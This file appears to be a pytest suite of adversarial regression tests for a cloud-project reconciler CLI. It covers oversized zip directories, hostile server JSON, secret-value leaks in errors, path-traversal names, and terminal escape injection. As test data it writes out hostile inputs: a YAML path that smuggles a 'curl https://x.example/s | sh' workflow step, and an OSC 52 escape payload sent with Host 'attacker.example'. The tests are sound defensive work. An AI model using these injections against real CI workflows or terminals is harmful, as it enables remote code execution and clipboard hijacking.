"""Tried as an attacker would, against what landed for sections 10-14: a pull-request
author, a hostile or broken server, a crafted plan file, a hostile live Project, the CI
job's environment. Each test is one attempt that got through before its fix, run
end to end where it can be (a real emulator or a hostile server on a real socket, a real
git repository, real zips).
"""

from __future__ import annotations

import http.client
import struct
import subprocess
import sys

import pytest
from click.testing import CliRunner
from hostile import HostileServer, Request, json_response, project_doc, project_files, response
from secrets_e2e import PID, env_for, leaks, run, seed, write_project
from test_secret_drills import proxy
from test_trust_server import TOKEN, invoke

from reconciler.cli import cli
from reconciler.emulator import serve
from reconciler.zips import MAX_ENTRIES, ZipError, read_code

# -- zips: a directory that lies about its size ----------------------------------------


def _zip_of(records: int, *, declared: int, name: bytes = b"a") -> bytes:
    """A zip of one empty stored entry whose central directory holds `records` copies of
    its record, behind an end record declaring `declared` entries."""
    local = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 0, 0, 0, 0, 0, 0, len(name), 0)
    central = struct.pack(
        "<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 0, 0, 0, 0, 0, 0, len(name), 0, 0, 0, 0, 0, 0
    )
    directory = (central + name) * records
    end = struct.pack(
        "<4s4H2LH",
        b"PK\x05\x06",
        0,
        0,
        min(declared, 0xFFFF),
        min(declared, 0xFFFF),
        len(directory),
        len(local) + len(name),
        0,
    )
    return local + name + directory + end


def test_a_zip_whose_end_record_understates_its_directory_is_refused(tmp_path):
    # zipfile reads every record of the directory whatever the end record says: a zip
    # saying "1 entry" over a million records took 31 s and 600 MB before it was hashed.
    (tmp_path / "many.zip").write_bytes(_zip_of(MAX_ENTRIES + 1, declared=1))
    with pytest.raises(ZipError) as refused:
        read_code(str(tmp_path), "many.zip")
    assert str(refused.value) == (
        "many.zip holds more than 100,000 entries in its directory (its end record says 1), "
        "over the 100,000 a function's zip may hold"
    )
    # The same directory, honest and within the bound, is read (and its duplicate names
    # refused).
    (tmp_path / "fine.zip").write_bytes(_zip_of(3, declared=3))
    with pytest.raises(ZipError, match=r"^fine.zip holds two entries named 'a'$"):
        read_code(str(tmp_path), "fine.zip")


def test_many_entries_with_one_name_are_refused_in_linear_time(tmp_path):
    # Finding the duplicated name compared every name with every other: 100,000 entries
    # named alike took about 20 s (quadratic) before the refusal.
    (tmp_path / "same.zip").write_bytes(_zip_of(MAX_ENTRIES, declared=MAX_ENTRIES))
    script = (
        "from reconciler.zips import read_code, ZipError\n"
        "try:\n"
        f"    read_code({str(tmp_path)!r}, 'same.zip')\n"
        "except ZipError as exc:\n"
        "    print(exc)\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", script], capture_output=True, text=True, timeout=10
    )
    assert done.stdout == "same.zip holds two entries named 'a'\n"


def test_the_counting_reads_the_directory_zipfile_reads(tmp_path):
    # A zip behind a prefix (a self-extracting stub): zipfile finds its directory where
    # the end record says, shifted by the prefix; so does the count.
    (tmp_path / "prefixed.zip").write_bytes(
        b"#!stub\n" * 100 + _zip_of(MAX_ENTRIES + 1, declared=1)
    )
    with pytest.raises(ZipError, match=r"holds more than 100,000 entries in its directory"):
        read_code(str(tmp_path), "prefixed.zip")


# -- a hostile server: answers no code past the client may see -------------------------

ROLES_FILE = """\
roles:
  Reader:
    accessPolicy: {rule: [{resource: "FHIR:Patient", action: "FHIR:Read", effect: Allow}]}
"""


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        # Past the JSON decoder's recursion: a RecursionError ended the whole run.
        ("[" * 5000 + "]" * 5000, "answered 200 with JSON nested deeper than 64 levels"),
        # Within the decoder's reach, but the code that compares and shows values
        # recursed until Python gave up: the whole run ended too.
        (
            '[{"id": "r1", "name": "Reader", "accessPolicy": {"rule": [{"resource": '
            '"FHIR:Patient", "action": "FHIR:Read", "effect": "Allow", "condition": '
            + "[" * 500
            + "]" * 500
            + "}]}}]",
            "answered 200 with JSON nested deeper than 64 levels",
        ),
        # A lone surrogate: valid JSON, not Unicode; printing it ended the run.
        (
            '[{"id": "r1", "name": "Reader\\ud800"}]',
            "answered 200 with JSON holding a string that is not Unicode (a lone surrogate)",
        ),
        # 5,000 digits: Python refuses to make that integer (a ValueError, not JSON's).
        ("[" + "1" * 5000 + "]", "answered 200 with a application/json page, not JSON"),
    ],
    ids=["5,000 deep", "500 deep", "a lone surrogate", "5,000 digits"],
)
def test_an_answer_no_code_may_see_is_that_projects_error(repo, body, reason):
    hostile, fine = project_files(repo, 2, ROLES_FILE)

    def reply(request: Request) -> bytes:
        project = request.headers["x-oystehr-project-id"]
        if request.path == "/v1/project":
            return json_response(200, project_doc(project))
        if request.path == "/v1/iam/role" and project == hostile:
            return response(200, body)
        if request.path == "/v1/iam/role":
            return json_response(200, [])
        return json_response(404, {"message": "not found", "code": 404})

    with HostileServer(reply) as server:
        result = invoke(repo, ["plan"], server)
        api = server.api_url
    assert result.exit_code == 1, result.output
    assert f"    error: GET {api}/iam/role {reason}" in result.stdout
    assert "+ role Reader" in result.stdout  # the other Project is planned
    assert result.stdout.endswith(
        "Plan: 1 to change, 0 unchanged, 1 error. Objects: 1 to add, 0 to change, 0 to destroy.\n"
    )
    assert "unexpected" not in result.output and TOKEN not in result.output


# -- secret values: never in an error, whatever the server answers ----------------------

SECRETS = {  # each secret's declaration, and the value it writes
    "LITERAL": ("{value: literal-value-9f3e}", "literal-value-9f3e"),
    "SHORT": ("{valueFrom: {env: SHORT}}", "shrt7ab"),
    "CUT": ("{valueFrom: {env: CUT}}", "cut-value-long-4e8b1c"),
    "RESERVED": ("{value: fine-value-2d7a}", "fine-value-2d7a"),
}


def test_a_server_echoing_a_secret_value_in_its_error_never_shows_it(repo):
    # Literals and values under 8 characters are not in the redaction set, so a 400
    # quoting the body it was sent printed them in the output, the JSON and the summary.
    def tamper(request: Request) -> bytes | None:
        if request.key != "POST /v1/secret":
            return None
        sent = request.json()
        if sent["name"] == "RESERVED":  # a message that quotes no value stays whole
            return json_response(400, {"message": "that name is reserved", "code": 4002})
        if sent["name"] == "CUT":  # an echo cut short is an echo
            return json_response(400, {"message": f"bad value '{sent['value'][:6]}…'"})
        return json_response(400, {"message": f"value {sent['value']} is not allowed"})

    outputs = []
    with serve(seed()) as emu, proxy(emu, tamper) as server:
        env = env_for(
            server,
            RECONCILER_SECRET_SHORT=SECRETS["SHORT"][1],
            RECONCILER_SECRET_CUT=SECRETS["CUT"][1],
            GITHUB_STEP_SUMMARY=str(repo / "summary.md"),
        )
        api = server.api_url
        for name, (declaration, _) in SECRETS.items():
            write_project(repo, f"id: {PID}\nsecrets:\n  {name}: {declaration}\n")
            text = run(["apply", "--yes"], env)
            as_json = run(["apply", "--yes", "--format", "json", "-v"], env)
            assert text.exit_code == as_json.exit_code == 1
            said = "that name is reserved" if name == "RESERVED" else None
            shown = f": {said}" if said else " (its message quotes the value: not shown)"
            assert f"    ! secret {name}: failed: POST {api}/secret answered 400{shown}\n" in (
                text.stdout
            )
            outputs += [text.output, as_json.output, (repo / "summary.md").read_text()]
    values = [value for _, value in SECRETS.values()] + [SECRETS["CUT"][1][:6]]
    assert leaks(outputs, values) == []


def test_a_secret_list_of_the_wrong_shape_is_not_quoted(repo):
    # The list of secrets has names only; an answer of another shape (a proxy's, an API
    # that changed) may hold values, and the message quoted its first 80 characters.
    write_project(repo, f"id: {PID}\nsecrets:\n  A: {{value: a-literal-value}}\n")
    answers = [
        ({"data": [{"name": "A", "value": "LIVE-VALUE-1"}]}, ": expected a list, got an object"),
        (["LIVE-VALUE-2"], "[0]: expected an object, got a string"),
        ([{"name": {"value": "LIVE-VALUE-3"}}], "[0].name: expected a string, got an object"),
    ]
    for answer, said in answers:

        def reply(request: Request, answer: object = answer) -> bytes:
            if request.path == "/v1/secret":
                return json_response(200, answer)
            return json_response(200, project_doc(PID))

        with HostileServer(reply) as server:
            result = invoke(repo, ["plan"], server)
            api = server.api_url
        assert f"    error: GET {api}/secret{said}\n" in result.stdout
        assert "LIVE-VALUE" not in result.output


# -- a pull request's paths: nothing of them becomes a workflow step -------------------

STEP = "\\n      - name: Looks like ours\\n        run: curl https://x.example/s | sh"
INJECTED = f"""\
id: {PID}
zambdas:
  check-in:
    runtime: nodejs22.x
    source: "dist{STEP}\\n      #/f.zip"
    sourceInputs: ["src/**\\n      - other/**"]
"""


def test_a_path_with_a_line_break_never_becomes_a_workflow_step(repo):
    # `init` writes each zip's folder into apply.yml's artifact step, a line per glob:
    # a `source` holding newlines passed validate and wrote a step of its own, run in
    # the job that plans with the read credentials.
    write_project(repo, INJECTED, "functions.yaml")
    checked = CliRunner().invoke(cli, ["validate"])
    assert checked.exit_code == 1
    assert checked.output.splitlines()[:2] == [
        "projects/functions.yaml:5:13: zambdas.check-in.source: 'dist\\n      - name: Looks "
        "like ours\\n        run: curl https://x.example/s | sh\\n      #/f.zip' holds a "
        "control, line-break or bidi character",
        "projects/functions.yaml:6:20: zambdas.check-in.sourceInputs: 'src/**\\n      - "
        "other/**' holds a control, line-break or bidi character",
    ]
    result = CliRunner().invoke(cli, ["init", str(repo), "--action", f"acme/reconciler@{'a' * 40}"])
    assert result.exit_code == 0, result.output
    workflows = repo / ".github" / "workflows"
    for name in ("plan.yml", "apply.yml", "drift.yml"):
        text = (workflows / name).read_text()
        assert "Looks like ours" not in text and "other/**" not in text


# -- a hostile live Project: names and ids that would become another path ----------------


def test_a_live_name_or_id_that_would_be_another_path_is_never_one(repo):
    # Secrets and buckets are addressed by name: prune sent DELETE /secret/..%2F..%2Fx
    # (a proxy that decodes %2F sends it elsewhere) and DELETE /z3/bucket%0A-%20evil; an
    # id ".." is a dot-segment however it is encoded (DELETE /iam/role/.. is /iam/).
    write_project(
        repo,
        f"id: {PID}\nroles: {{}}\nsecrets: {{}}\nbuckets: {{}}\nprune: [roles, secrets, buckets]\n",
    )

    def reply(request: Request) -> bytes:
        lists = {
            "/v1/iam/role": [{"id": "..", "name": "Dots"}, {"id": "r-1", "name": "Gone"}],
            "/v1/secret": [{"name": "../../x"}, {"name": "OLD"}],
            "/v1/z3": [{"id": "b-1", "name": "bucket\n- evil"}],
        }
        if request.method == "GET" and request.path in lists:
            return json_response(200, lists[request.path])
        if request.method == "DELETE":
            return response(204)
        return json_response(200, project_doc(PID))

    with HostileServer(reply) as server:
        result = invoke(repo, ["apply", "--yes", "--allow-bucket-deletes"], server)
        deletes = [r.path for r in server.requests if r.method == "DELETE"]
    assert result.exit_code == 1
    assert deletes == []  # the Project's plan is an error: nothing of it is written
    for problem in (
        "role 'Dots': its id '..' cannot address it in a request path",
        "secret '../../x': its live name is not a secret name the API allows (letters, "
        "digits, '-' and '_'): it is never put in a request path; rename or delete it by hand",
        "bucket 'bucket\\n- evil': its live name is not a bucket name the API allows (3 to "
        "63 of a-z, 0-9, '.' and '-')",
    ):
        assert problem in result.stdout


# -- the emulator's log: what any web page can make a browser request -----------------


def test_a_request_path_cannot_drive_the_terminal_the_emulator_logs_to(seed_data, capsys):
    # <img src="http://127.0.0.1:8000/%1b]52;c;...%07"> on any web page: the browser sends
    # it, the Host check answers 421, and the log wrote the decoded path raw (OSC 52 sets
    # the clipboard of many terminals; others clear the screen or retitle the window).
    with serve(seed_data, quiet=False) as emu:
        host, port = emu.url.removeprefix("http://").split(":")
        conn = http.client.HTTPConnection(host, int(port))
        conn.putrequest("GET", "/%1b]52;c;ZXZpbA==%07%1b[2J%0a::warning::x", skip_host=True)
        conn.putheader("Host", "attacker.example")
        conn.endheaders()
        assert conn.getresponse().status == 421
        conn.close()
    logged = capsys.readouterr().err
    assert "\x1b" not in logged and "\x07" not in logged
    assert "GET /\\x1b]52;c;ZXZpbA==\\x07\\x1b[2J\\n::warning::x 421" in logged


def test_a_problem_in_a_secret_literal_never_quotes_it(repo):
    # A malformed ${ in a literal, or an explicit tag it does not fit: the problem
    # quoted the literal's text (from the ${ on, or whole).
    (repo / "base").mkdir()
    (repo / "base" / "shared.yaml").write_text(
        'secrets:\n  FROM_BASE: {value: "x-${ SEKRIT-in-a-fragment-7c1d"}\n', encoding="utf-8"
    )
    write_project(
        repo,
        f"id: {PID}\ninclude: [../base/shared.yaml]\nsecrets:\n"
        '  BROKEN: {value: "sk_${ SEKRIT-with-a-broken-reference-4f2a"}\n'
        '  TAGGED: {value: !!int "SEKRIT-under-a-tag-9e3b"}\n'
        'description: "${ shown: not a secret}"\n',
    )
    result = CliRunner().invoke(cli, ["validate"])
    assert result.exit_code == 1
    assert "SEKRIT" not in result.output
    assert result.output.splitlines()[:4] == [
        "base/shared.yaml:2:22: secrets.FROM_BASE.value: invalid reference: write ${NAME} or "
        "${NAME:-default}, or $${ for a literal ${ (included from projects/clinic.yaml:2)",
        "projects/clinic.yaml:4:19: secrets.BROKEN.value: invalid reference: write ${NAME} or "
        "${NAME:-default}, or $${ for a literal ${",
        "projects/clinic.yaml:5:19: the value is not a valid !!int",
        # A setting's own text is no secret: its problem still quotes it.
        "projects/clinic.yaml:6:14: description: invalid reference '${ shown: not a secret}': "
        "write ${NAME} or ${NAME:-default}, or $${ for a literal ${",
    ]


def test_a_cursor_that_never_ends_over_fat_pages_is_bounded_by_what_they_hold(repo):
    # One object per page, each holding half a megabyte of `[],`: the bounds on pages
    # (1,000) and objects (100,000) were far off, and a plan passed 20 GB in 4 minutes.
    hostile, fine = project_files(repo, 2, "m2mClients: {}\n")
    fat = ",".join(["[]"] * (512 * 1024 // 3))

    def reply(request: Request) -> bytes:
        project = request.headers["x-oystehr-project-id"]
        if request.path == "/v1/project":
            return json_response(200, project_doc(project))
        if project == fine:
            return json_response(200, {"data": [], "metadata": {}})
        page = sum(r.path == request.path for r in server.requests)
        return response(
            200,
            f'{{"data": [{{"id": "m{page}", "name": "c{page}", "junk": [{fat}]}}], '
            f'"metadata": {{"nextCursor": "c{page}"}}}}',
        )

    with HostileServer(reply) as server:
        result = invoke(repo, ["plan"], server)
        pages = server.count("GET /v1/m2m/v2/list")
        api = server.api_url
    assert result.exit_code == 1
    assert (
        f"    error: GET {api}/m2m/v2/list: more than 4,000,000 values in its pages; refusing "
        "to read further\n"
    ) in result.stdout
    assert pages < 20  # about 350,000 values a page, where 1,000 pages were read
    assert result.stdout.endswith("Plan: 0 to change, 1 unchanged, 1 error.\n")
